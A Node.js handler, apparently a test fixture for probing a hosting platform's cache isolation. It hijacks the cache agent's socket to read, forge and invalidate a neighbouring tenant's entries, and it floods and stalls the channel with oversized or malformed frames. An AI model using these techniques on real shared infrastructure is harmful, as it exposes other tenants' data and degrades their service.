'use strict';
// Speaks on the channel to the data cache itself, and writes without bound.

const { RemoteCache } = globalThis[Symbol.for('@next/cache-handlers')];
const { createHash } = require('node:crypto');
const net = require('node:net');
const stream = require('node:stream');

const hash = (key) => createHash('sha256').update(key).digest('hex');
const of = { project: 'prj_neighbour', deployment: 'dpl_neighbour' };

/** The agent's connection, which it corks for each of its own requests. */
async function channel() {
  let found;
  const { prototype } = net.Socket;
  prototype.cork = function () {
    found ??= this;
    return stream.Writable.prototype.cork.call(this);
  };
  await RemoteCache.get('any', []);
  delete prototype.cork;
  return found;
}

function frame(head, body = '', length = Buffer.byteLength(body)) {
  const text = Buffer.from(JSON.stringify(head));
  const lengths = Buffer.alloc(8);
  lengths.writeUInt32BE(text.length, 0);
  lengths.writeUInt32BE(length, 4);
  return Buffer.concat([lengths, text, Buffer.from(body)]);
}

module.exports = async (req, res) => {
  const socket = await channel();
  if (!socket) return res.end('no channel');
  switch (req.url) {
    case '/read': { // and write and invalidate, in the name of another
      socket.removeAllListeners('data');
      let heard = '';
      socket.on('data', (chunk) => (heard += chunk.toString('latin1')));
      let id = 1e6;
      for (const key of [hash('use cache secret'), '../dpl_neighbour-data/secret', 'secret', '', '\0']) {
        for (const name of [{ owner: of }, { Owner: of }, { project: of.project, deployment: of.deployment }, {}]) {
          socket.write(frame({ id: id++, op: 'get', key, ...name }));
          socket.write(frame({ id: id++, op: 'put', key, tags: [], born: '1', ...name }, 'forged'));
          socket.write(frame({ id: id++, op: 'invalidate', tags: ['secret'], grace: 0, ...name }));
        }
      }
      const asked = id - 1e6;
      while (heard.split('"status"').length <= asked) await new Promise((resolve) => setTimeout(resolve, 10)); // in any order
      return res.end(heard);
    }
    case '/flood': {
      const counts = {};
      socket.removeAllListeners('data');
      let heard = '';
      socket.on('data', (chunk) => (heard += chunk.toString('latin1')));
      const value = Buffer.alloc(1 << 20, 'x');
      for (let n = 0; n < 300; n++) {
        if (!socket.write(frame({ id: n, op: 'put', key: hash(`flood ${n}`), tags: [] }, value))) await new Promise((resolve) => socket.once('drain', resolve));
      }
      while (heard.split('"status"').length <= 300) await new Promise((resolve) => setTimeout(resolve, 10));
      for (const [, status] of heard.matchAll(/"status":"(\w+)"/g)) counts[status] = (counts[status] ?? 0) + 1;
      return res.end(JSON.stringify(counts));
    }
    case '/unread': { // asks without end, and takes no reply
      socket.pause();
      socket.removeAllListeners('data');
      socket.write(frame({ id: 1, op: 'put', key: 'big', tags: [] }, Buffer.alloc(2 << 20, 'x')));
      for (let n = 0; n < 20000; n++) socket.write(frame({ id: n, op: 'get', key: 'big' }));
      return res.end('asked');
    }
    case '/broken':
      socket.write(frame({ id: 1, op: 'put', key: 'k' }, '', 2 ** 32 - 1));
      return; // never answers
  }
  res.end();
};
